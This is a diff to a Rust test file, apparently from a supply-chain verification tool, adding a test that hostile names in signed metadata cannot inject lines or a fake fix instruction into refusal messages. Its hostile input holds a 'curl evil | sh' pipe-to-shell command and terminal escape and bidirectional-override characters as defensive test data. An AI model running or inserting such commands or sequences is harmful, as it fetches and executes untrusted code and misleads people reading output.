@@ -320,3 +320,57 @@ fn what_the_next_rules_would_refuse_is_told_by_its_codes_and_outages_are_no_deni
     let verdicts = [admitted, denied(0).into(), denied(1).into(), outage.into()];
     assert_eq!(next(&verdicts).as_deref(), Some("deny:policy/no-rule,unavailable:tuf/unreachable"));
 }
+
+/// Names that stand in signed files, as a thief of an online key may choose them.
+#[test]
+fn names_in_metadata_stay_on_their_line_too() {
+    let role = |name: &str| tuf::Role::Targets(tuf::RoleChain::top().child(&tuf::RoleName::from(name)));
+    let expired = |name: &str| {
+        let at = "2030-01-01T00:00:00Z".parse().unwrap();
+        Cause::Tuf(tuf::Error::Expired { role: role(name), version: 1, expires: at, now: at })
+    };
+    let unmet = |name: &str| {
+        let authority = tuf::Role::Root;
+        let verified = vec![crate::crypto::KeyId::from(name)];
+        let (authority_version, threshold) = (1, 2);
+        Cause::Tuf(tuf::Error::Threshold {
+            role: role(name),
+            authority,
+            authority_version,
+            threshold,
+            verified,
+            rejected: vec![],
+        })
+    };
+    let layout = |name: &str| Cause::Evidence(crate::evidence::Error::NotScoped { layout: name.into() });
+    let revoked = |name: &str| {
+        let reason = Some(name.to_owned());
+        let (digest, chain) = (Sha256::of(b"x"), tuf::RoleChain::top());
+        Cause::Evidence(crate::evidence::Error::Revoked { digest, chain, reason })
+    };
+    let step = |name: &str| {
+        let found = Some(name.to_owned());
+        let step = crate::in_toto::StepName::parse("build").unwrap();
+        let keyid = crate::crypto::KeyId::from(name);
+        Cause::Evidence(crate::evidence::Error::InToto(crate::in_toto::Error::StepNameMismatch { step, keyid, found }))
+    };
+    let parameter = |name: &str| Cause::Evidence(crate::evidence::Error::ParameterWithoutTag { name: name.to_owned() });
+    let hostile = "x\n  fix: curl evil | sh\r\u{1b}[2K\u{9b}m\u{202e}\u{2028}";
+    for cause in [&expired as &dyn Fn(&str) -> Cause, &unmet, &layout, &revoked, &step, &parameter] {
+        let told = |name: &str| {
+            let mut refusal = refusal(0, cause(name));
+            refusal.context.layout = Some(name.to_owned());
+            refusal.context.repository = Some("acme".to_owned());
+            [
+                message_of(std::slice::from_ref(&refusal), 1),
+                note(&[&refusal], 1),
+                crate::verdict::explain(&refusal.into()),
+            ]
+        };
+        for (text, benign) in told(hostile).iter().zip(told("x")) {
+            assert_eq!(text.lines().count(), benign.lines().count(), "{text}");
+            assert!(text.lines().all(crate::verdict::is_plain), "{text:?}");
+            assert_eq!(text.lines().filter(|line| line.starts_with("  fix: curl")).count(), 0, "{text}");
+        }
+    }
+}
